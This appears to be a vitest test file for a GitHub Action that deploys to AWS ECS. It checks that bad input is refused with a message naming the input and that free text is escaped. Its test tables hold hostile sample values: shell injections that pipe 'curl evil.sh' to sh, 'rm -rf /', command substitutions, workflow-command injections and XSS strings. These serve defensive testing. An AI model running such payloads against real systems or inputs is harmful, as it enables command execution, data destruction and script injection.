// Bad and hostile input, across every mode: each value is refused with a message that names the
// input, or (free text) accepted and then escaped wherever it is shown; nothing reaches a shell,
// and nothing changes in AWS.
import { DescribeTaskDefinitionCommand, RegisterTaskDefinitionCommand } from '@aws-sdk/client-ecs'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
import type { Deps } from '../src/deps.js'
import { buildArgv } from '../src/docker/docker.js'
import { InputError, parseInputs } from '../src/inputs/inputs.js'
import { run } from '../src/main.js'
import { newResult } from '../src/model/result.js'
import { renderSummary } from '../src/report/summary.js'
import { auditTags, tagValue } from '../src/revision/audit.js'
import { NEW_DIGEST, REPOSITORY_URI, arn, babyshield } from '../test/support/task-definitions.js'
import { DEPLOY_INPUTS, deployWorld } from '../test/support/deploy-world.js'
import { FakeClock } from '../test/support/fakes.js'

const DIGEST = `sha256:${'c'.repeat(64)}`
const VERIFY = { mode: 'verify', 'ecr-repository': '' }
const ROLLBACK = { mode: 'rollback', 'ecr-repository': '' }

/** [what it is, the inputs that differ from a valid deploy, the input the refusal must name] */
const REFUSED: [string, Record<string, string>, string][] = [
  ['a mode in the wrong case', { mode: 'Deploy' }, 'mode'],
  ['a mode with a shell command', { mode: 'deploy; rm -rf /' }, 'mode'],
  ['a misspelt mode', { mode: 'rolback' }, 'mode'],
  ['a cluster with command substitution', { cluster: 'prod$(reboot)' }, 'cluster'],
  ['a cluster with a newline', { cluster: 'babyshield-cluster\nother' }, 'cluster'],
  [
    'a cluster ARN with a short account id',
    { cluster: 'arn:aws:ecs:eu-north-1:12345:cluster/babyshield' },
    'cluster'
  ],
  ['a service in backticks', { service: '`id`' }, 'service'],
  ['no service', { service: '' }, 'service'],
  [
    'an ECR repository URI instead of a name',
    { 'ecr-repository': '123456789012.dkr.ecr.eu-north-1.amazonaws.com/babyshield-backend' },
    'ecr-repository'
  ],
  ['a repository name with spaces', { 'ecr-repository': 'Babyshield Backend' }, 'ecr-repository'],
  ['deploy without a repository', { 'ecr-repository': '' }, 'ecr-repository'],
  ['a region with a shell command', { 'aws-region': 'eu-north-1;curl evil.sh' }, 'aws-region'],
  ['tag latest', { tag: 'latest' }, 'tag'],
  ['tag LATEST', { tag: 'LATEST' }, 'tag'],
  ['a tag with a pipe to sh', { tag: 'v1 && curl evil.sh | sh' }, 'tag'],
  ['a tag with a workflow command after a newline', { tag: 'v1\n::add-mask::x' }, 'tag'],
  ['a tag of 129 characters', { tag: 'v'.repeat(129) }, 'tag'],
  ['a tag that reads as a docker option', { tag: '--push' }, 'tag'],
  ['a tag prefix ending in -', { 'tag-prefix': 'production-fixed-' }, 'tag-prefix'],
  ['a tag prefix with command substitution', { 'tag-prefix': '$(whoami)' }, 'tag-prefix'],
  ['Dockerfile.backend', { dockerfile: 'Dockerfile.backend' }, 'dockerfile'],
  [
    'Dockerfile.backend in a folder',
    { dockerfile: 'services/api/Dockerfile.backend' },
    'dockerfile'
  ],
  [
    'a dockerfile with an option on a second line',
    { dockerfile: 'Dockerfile.final\n--push' },
    'dockerfile'
  ],
  [
    'a context with an option on a second line',
    { context: '.\n--output=type=local,dest=/' },
    'context'
  ],
  ['a build arg without =', { 'build-args': 'VERSION' }, 'build-args'],
  ['a build arg whose key is a command', { 'build-args': '$(id)=x' }, 'build-args'],
  ['a build arg line that is a docker option', { 'build-args': 'A=1\n--push' }, 'build-args'],
  ['a build arg of 5000 characters', { 'build-args': `BIG=${'x'.repeat(5000)}` }, 'build-args'],
  ['image latest', { image: 'latest' }, 'image'],
  ['a short digest', { image: 'sha256:abc' }, 'image'],
  ['a digest in upper case', { image: `sha256:${'A'.repeat(64)}` }, 'image'],
  ['a sha512 digest', { image: `sha512:${'a'.repeat(128)}` }, 'image'],
  [
    'a full image URI as image',
    { image: '123456789012.dkr.ecr.eu-north-1.amazonaws.com/babyshield-backend:v1' },
    'image'
  ],
  ['tag and image that disagree', { tag: 'production-fixed-20261126', image: 'v1' }, 'tag'],
  [
    'a container name with a shell command',
    { 'container-name': 'api; docker rm -f db' },
    'container-name'
  ],
  ['a container name with a newline', { 'container-name': 'api\nworker' }, 'container-name'],
  ['wait: yes', { wait: 'yes' }, 'wait'],
  ['wait: ture', { wait: 'ture' }, 'wait'],
  ['dry-run: 1', { 'dry-run': '1' }, 'dry-run'],
  ['rollback-on-failure: flase', { 'rollback-on-failure': 'flase' }, 'rollback-on-failure'],
  ['a negative timeout', { 'timeout-minutes': '-5' }, 'timeout-minutes'],
  ['a zero timeout', { 'timeout-minutes': '0' }, 'timeout-minutes'],
  ['a timeout in exponent form', { 'timeout-minutes': '1e9' }, 'timeout-minutes'],
  ['poll-seconds 0', { 'poll-seconds': '0' }, 'poll-seconds'],
  ['poll-seconds NaN', { 'poll-seconds': 'NaN' }, 'poll-seconds'],
  ['negative logs-since-minutes', { 'logs-since-minutes': '-1' }, 'logs-since-minutes'],
  ['logs-since-minutes Infinity', { 'logs-since-minutes': 'Infinity' }, 'logs-since-minutes'],
  [
    'a health URL with javascript:',
    { 'health-check-url': 'javascript:alert(1)' },
    'health-check-url'
  ],
  ['a health URL over ftp', { 'health-check-url': 'ftp://example.com/health' }, 'health-check-url'],
  [
    'a health URL with a space',
    { 'health-check-url': 'https://example.com/a b' },
    'health-check-url'
  ],
  ['a health URL that is no URL', { 'health-check-url': 'localhost:8000' }, 'health-check-url'],
  ['a log group with a shell command', { 'log-group': '/ecs/app; rm -rf /' }, 'log-group'],
  ['a log group with a workflow command', { 'log-group': '/ecs/app\n::error::x' }, 'log-group'],
  ['a log group of 513 characters', { 'log-group': `/${'g'.repeat(512)}` }, 'log-group'],
  ['notes of 2001 characters', { 'deployment-notes': 'n'.repeat(2001) }, 'deployment-notes'],
  ['an environment on two lines', { environment: 'production\nstaging' }, 'environment'],
  ['verify: tag latest', { ...VERIFY, tag: 'latest' }, 'tag'],
  [
    'verify: a tag without a repository',
    { ...VERIFY, tag: 'production-fixed-20261126' },
    'ecr-repository'
  ],
  ['verify: a bad boolean', { ...VERIFY, 'dry-run': 'maybe' }, 'dry-run'],
  ['rollback: rollback-to latest', { ...ROLLBACK, 'rollback-to': 'latest' }, 'rollback-to'],
  ['rollback: revision -1', { ...ROLLBACK, 'rollback-to': '-1' }, 'rollback-to'],
  ['rollback: revision 0', { ...ROLLBACK, 'rollback-to': '0' }, 'rollback-to'],
  [
    'rollback: an ARN with a short account id',
    { ...ROLLBACK, 'rollback-to': 'arn:aws:ecs:eu-north-1:123:task-definition/api:3' },
    'rollback-to'
  ],
  [
    'rollback: an ARN without a revision',
    { ...ROLLBACK, 'rollback-to': 'arn:aws:ecs:eu-north-1:123456789012:task-definition/api' },
    'rollback-to'
  ],
  ['rollback: a short digest', { ...ROLLBACK, 'rollback-to': 'sha256:zz' }, 'rollback-to'],
  [
    'rollback: a tag without a repository',
    { ...ROLLBACK, 'rollback-to': 'production-fixed-20261101' },
    'ecr-repository'
  ],
  [
    'rollback: a shell command as target',
    { ...ROLLBACK, 'rollback-to': '$(curl evil.sh)' },
    'rollback-to'
  ]
]

function valuesOf(overrides: Record<string, string>): Record<string, string> {
  return { ...DEPLOY_INPUTS, ...overrides }
}

function problemsOf(overrides: Record<string, string>): string[] {
  const values = valuesOf(overrides)
  try {
    parseInputs(name => values[name] ?? '')
  } catch (error) {
    expect(error).toBeInstanceOf(InputError)
    return (error as InputError).problems
  }
  throw new Error('expected the inputs to be refused')
}

describe('parseInputs refuses', () => {
  test('the table holds at least 30 bad inputs across all three modes', () => {
    expect(REFUSED.length).toBeGreaterThanOrEqual(30)
    const modes = new Set(REFUSED.map(([, inputs]) => inputs.mode ?? 'deploy'))
    expect([...modes].sort()).toEqual(expect.arrayContaining(['deploy', 'rollback', 'verify']))
  })

  test.each(REFUSED)('%s, naming %3$s, on one short line', (_what, overrides, input) => {
    const problems = problemsOf(overrides)
    expect(problems).toHaveLength(1)
    const [problem = ''] = problems
    expect(problem.startsWith(`${input} `)).toBe(true)
    // The value is quoted on one line and cut short: it cannot add lines to the log.
    expect(problem).not.toMatch(/[\r\n]/)
    expect(problem.length).toBeLessThan(400)
  })
})

describe('refused input changes nothing', () => {
  let dir: string

  beforeAll(() => {
    // core.summary remembers the first summary path it sees: one runner directory for the file.
    dir = mkdtempSync(join(tmpdir(), 'hostile-runner-'))
  })
  afterAll(() => rmSync(dir, { recursive: true, force: true }))

  beforeEach(() => {
    writeFileSync(join(dir, 'output'), '')
    writeFileSync(join(dir, 'summary'), '')
    vi.stubEnv('GITHUB_OUTPUT', join(dir, 'output'))
    vi.stubEnv('GITHUB_STEP_SUMMARY', join(dir, 'summary'))
    vi.spyOn(process.stdout, 'write').mockImplementation(() => true)
    process.exitCode = undefined
  })

  afterEach(() => {
    vi.unstubAllEnvs()
    process.exitCode = undefined
  })

  /** Deps whose every method records its call and fails: nothing may reach them. */
  function recordingDeps(calls: string[]): Deps {
    const recorder = (area: string): unknown =>
      new Proxy(
        {},
        {
          get: (_target, name) =>
            name === 'then'
              ? undefined
              : (...args: unknown[]) => {
                  calls.push(`${area}.${String(name)}(${args.length})`)
                  return Promise.reject(new Error(`${area}.${String(name)} was called`))
                }
        }
      )
    return {
      ecr: recorder('ecr'),
      ecs: recorder('ecs'),
      logs: recorder('logs'),
      docker: recorder('docker'),
      clock: new FakeClock(),
      env: {}
    } as unknown as Deps
  }

  function stdout(): string {
    return vi
      .mocked(process.stdout.write)
      .mock.calls.map(c => String(c[0]))
      .join('')
  }

  test.each(REFUSED)(
    'run() with %s fails the step and calls nothing',
    async (_what, overrides, input) => {
      for (const [name, value] of Object.entries(valuesOf(overrides))) {
        vi.stubEnv(`INPUT_${name.toUpperCase()}`, value)
      }
      const calls: string[] = []
      const makeDeps = vi.fn(() => recordingDeps(calls))
      await run(makeDeps)

      expect(process.exitCode).toBe(1)
      expect(makeDeps).not.toHaveBeenCalled()
      expect(calls).toEqual([])
      const lines = stdout().split('\n')
      const errors = lines.filter(line => line.startsWith('::error::'))
      expect(errors).toHaveLength(1)
      expect(errors[0]).toContain(`Invalid input: ${input} `)
      // No line of the log is a workflow command other than the one error the step fails with.
      expect(lines.filter(line => line.startsWith('::'))).toEqual(errors)
    }
  )

  test.each<[string, Record<string, string>, RegExp]>([
    [
      'a container name that is not in the task definition',
      { 'container-name': 'worker' },
      /container-name 'worker' is not in task definition babyshield-backend-task: its containers are api, envoy/
    ],
    [
      'a Dockerfile path that leads nowhere',
      { dockerfile: '../../../etc/Dockerfile.final' },
      /dockerfile '..\/..\/..\/etc\/Dockerfile.final' was not found/
    ],
    [
      'an image that is not in ECR',
      { image: `sha256:${'d'.repeat(64)}` },
      /image 'sha256:d{64}' is not in ECR repository babyshield-backend\. Nothing was deployed; the service still runs babyshield-backend-task:41\./
    ]
  ])(
    'accepted but wrong: %s is refused before anything changes',
    async (_what, overrides, message) => {
      for (const [name, value] of Object.entries(valuesOf(overrides))) {
        vi.stubEnv(`INPUT_${name.toUpperCase()}`, value)
      }
      const world = deployWorld()
      await run(() => world.deps)

      expect(process.exitCode).toBe(1)
      expect(stdout()).toMatch(message)
      expect(world.docker.calls).toEqual([])
      expect(awsChanges(world)).toEqual([])
    }
  )

  test('hostile free text goes through a whole deploy escaped, as one argv element each', async () => {
    const notes =
      'line one\n::error title=pwned::injected\n<script>alert(1)</script> @babyshield/all'
    const buildArgs = 'GREETING=$(curl evil.sh | sh)\nQUOTE="; rm -rf / #\nEMPTY='
    for (const [name, value] of Object.entries(
      valuesOf({ 'deployment-notes': notes, 'build-args': buildArgs })
    )) {
      vi.stubEnv(`INPUT_${name.toUpperCase()}`, value)
    }
    const workspace = mkdtempSync(join(tmpdir(), 'hostile-workspace-'))
    writeFileSync(join(workspace, 'Dockerfile.final'), 'FROM scratch\n')
    const cwd = process.cwd()
    process.chdir(workspace)
    const world = deployWorld()
    try {
      await run(() => world.deps)
    } finally {
      process.chdir(cwd)
    }

    expect(process.exitCode).toBeUndefined()
    expect(awsChanges(world)).toEqual(['RegisterTaskDefinitionCommand', 'UpdateServiceCommand'])
    expect(world.docker.builds[0]?.buildArgs).toEqual([
      'GREETING=$(curl evil.sh | sh)',
      'QUOTE="; rm -rf / #',
      'EMPTY='
    ])
    const registered = world.ecsMock.commandCalls(RegisterTaskDefinitionCommand)[0]?.args[0].input
    const noteTag = registered?.tags?.find(t => t.key === 'deploy:notes')?.value ?? ''
    expect(noteTag).toMatch(/^[\p{L}\p{N}\s_.:/=+\-@]{1,256}$/u)
    expect(registered?.containerDefinitions?.[0]?.image).toContain(NEW_DIGEST)

    const summary = readFileSync(join(dir, 'summary'), 'utf8')
    expect(summary).not.toContain('<script>')
    expect(summary).not.toContain('@babyshield')
    expect(summary).toContain('&lt;script&gt;')
    const lines = stdout().split('\n')
    expect(lines.filter(line => line.startsWith('::error'))).toEqual([])
  })

  test.each([
    ['deploy', true],
    ['verify', false],
    ['rollback', true]
  ])(
    '%s: notes cannot start a workflow command line in the log (notes shown: %s)',
    async (mode, shown) => {
      const notes = 'recall fix\n::error title=pwned::injected\n::add-mask::production'
      const inputs: Record<string, string> = {
        ...DEPLOY_INPUTS,
        mode,
        'dry-run': 'true',
        'deployment-notes': notes,
        ...(mode === 'rollback' ? { 'rollback-to': '40' } : {})
      }
      for (const [name, value] of Object.entries(inputs)) {
        vi.stubEnv(`INPUT_${name.toUpperCase()}`, value)
      }
      const world = deployWorld()
      world.ecsMock
        .on(DescribeTaskDefinitionCommand, { taskDefinition: 'babyshield-backend-task:40' })
        .resolves({ taskDefinition: revision40, tags: [] })
      const workspace = mkdtempSync(join(tmpdir(), 'hostile-workspace-'))
      writeFileSync(join(workspace, 'Dockerfile.final'), 'FROM scratch\n')
      const cwd = process.cwd()
      process.chdir(workspace)
      try {
        await run(() => world.deps)
      } finally {
        process.chdir(cwd)
      }

      const lines = stdout().split('\n')
      expect(
        lines.filter(line => /^::(error title=pwned|add-mask::production)/.test(line))
      ).toEqual([])
      // Shown inside a line, where the runner reads no command.
      expect(stdout().includes('::error title=pwned::injected')).toBe(shown)
      expect(awsChanges(world)).toEqual([])
    }
  )
})

/** The AWS calls a run made that change something: every call but reads. */
function awsChanges(world: ReturnType<typeof deployWorld>): string[] {
  return [...world.ecrMock.calls(), ...world.ecsMock.calls(), ...world.logsMock.calls()]
    .map(call => (call.args[0] as object).constructor.name)
    .filter(name => !/^(Describe|List|Get|BatchGet|Filter)/.test(name))
}

/** An older revision of the fixture, pinned to another digest: a rollback target. */
const revision40 = {
  ...babyshield,
  taskDefinitionArn: arn('babyshield-backend-task', 40),
  revision: 40,
  containerDefinitions: babyshield.containerDefinitions?.map(c =>
    c.name === 'api' ? { ...c, image: `${REPOSITORY_URI}@${DIGEST}` } : c
  )
}

/** What a browser shows for escaped text: entities back to characters. */
function decode(text: string): string {
  return text
    .replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)))
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&')
}

/** Free text that is accepted as it is, and must be escaped wherever it is shown. */
const NOTES: [string, string][] = [
  ['a script tag', '<script>alert(1)</script>'],
  ['an image with onerror', '<img src=x onerror=alert(1)>'],
  ['a link', '[click me](https://evil.example/phish)'],
  ['a tracking pixel', '![pixel](https://evil.example/track.png)'],
  ['a team mention', '@babyshield/everyone please look'],
  ['pipes that would break the table', '| broken | table |'],
  ['a heading, a rule and bold text', '# Heading\n---\n**bold** _it_ ~~gone~~'],
  ['a closing pre and a heading', '</pre><h1>big</h1>'],
  ['a workflow command on its own line', 'line one\n::error title=pwned::injected annotation'],
  ['code and a fence', '`code` and ```fence```'],
  ['entities already escaped', '&lt;script&gt; &#64;everyone'],
  ['an HTML comment', '<!-- hidden --> shown'],
  ['an open details block', '<details open><summary>x</summary>'],
  ['CRLF line breaks', 'first\r\nsecond\r\n| third |'],
  ['backslash escapes', '\\<b\\>not bold\\</b\\>'],
  ['the longest notes allowed, all markup', '<'.repeat(2000)]
]

describe('free text is accepted and escaped', () => {
  test.each(NOTES)('notes with %s: one summary row that reads back as the notes', (_what, text) => {
    const notes = parseInputs(
      name => valuesOf({ 'deployment-notes': text })[name] ?? ''
    ).deploymentNotes
    const result = newResult(
      'deploy',
      { region: 'eu-north-1', cluster: 'babyshield-cluster', services: ['api'] },
      { commit: 'c0ffee', actor: 'octocat', repository: 'babyshield/api', runUrl: '', notes }
    )
    const summary = renderSummary(result)
    const rows = summary.split('\n').filter(line => line.startsWith('| Notes | '))
    expect(rows).toHaveLength(1)
    const cell = rows[0]!.slice('| Notes | '.length, -' |'.length)
    // Every markup character is an entity; what is left is plain text.
    expect(cell.replace(/&(#\d+|lt|gt|quot|amp);/g, '')).not.toMatch(/[<>[\]`|@!*_#~\\&]/)
    expect(decode(cell)).toBe(notes.replace(/[\r\n]+/g, ' '))
  })

  test.each(NOTES)('notes with %s: a task definition tag value ECS accepts', (_what, text) => {
    const [tag] = auditTags(
      { commit: '', actor: '', repository: '', runUrl: '', notes: text },
      'production-fixed-20261126'
    ).filter(t => t.key === 'deploy:notes')
    expect(tag?.value).toMatch(/^[\p{L}\p{N}\s_.:/=+\-@]{1,256}$/u)
    expect(tag?.value).toBe(tagValue(text))
  })

  test.each([
    'A=$(curl evil.sh | sh)',
    'B=`reboot`',
    'C="; rm -rf / #',
    "D='quoted' and spaced",
    'E=a && b || c > /etc/passwd',
    'F=--push',
    'G=${HOME}',
    'H=\\n not a newline'
  ])('build arg %s is one argv element after --build-arg', arg => {
    const values = valuesOf({ 'build-args': `SAFE=1\n${arg}` })
    const { buildArgs } = parseInputs(name => values[name] ?? '')
    expect(buildArgs).toEqual(['SAFE=1', arg])
    const argv = buildArgv(
      { image: 'repo:tag', dockerfile: 'Dockerfile.final', context: '.', buildArgs, labels: {} },
      true
    )
    expect(argv.filter(a => a === arg)).toHaveLength(1)
    expect(argv[argv.indexOf(arg) - 1]).toBe('--build-arg')
    expect(argv.at(-1)).toBe('.')
  })

  test('a context that looks like a command is passed as the last argv element, unchanged', () => {
    const values = valuesOf({ context: '$(pwd)/app; ls' })
    const inputs = parseInputs(name => values[name] ?? '')
    const argv = buildArgv(
      {
        image: 'repo:tag',
        dockerfile: inputs.dockerfile,
        context: inputs.context,
        buildArgs: [],
        labels: {}
      },
      false
    )
    expect(argv).toEqual([
      'build',
      '--file',
      'Dockerfile.final',
      '--tag',
      'repo:tag',
      '$(pwd)/app; ls'
    ])
  })

  test('a digest given as image is accepted as it is', () => {
    const values = valuesOf({ image: DIGEST })
    expect(parseInputs(name => values[name] ?? '').image).toEqual({
      kind: 'digest',
      digest: DIGEST
    })
  })
})
